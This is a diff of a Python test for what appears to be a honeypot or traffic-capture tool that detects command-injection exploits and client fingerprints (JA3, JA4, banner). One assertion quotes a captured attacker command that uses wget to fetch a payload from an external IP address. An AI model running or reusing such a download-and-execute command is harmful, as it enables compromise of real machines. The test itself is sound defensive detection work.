@@ -168,9 +168,4 @@ async def test_a_real_exploit_in_a_real_capture_is_seen() -> None:
     (exploit,) = of(events, "exploit.seen")
     assert exploit.rule == "generic-command-injection"
     assert "wget http:/\\/176.65.140.135/efefa7" in exploit.command
-    assert {event.fingerprint_kind for event in of(events, "client.seen")} == {
-        "ja3",
-        "ja4",
-        "banner",
-        "hassh",
-    }
+    assert {event.fingerprint_kind for event in of(events, "client.seen")} == {"ja3", "ja4", "banner"}
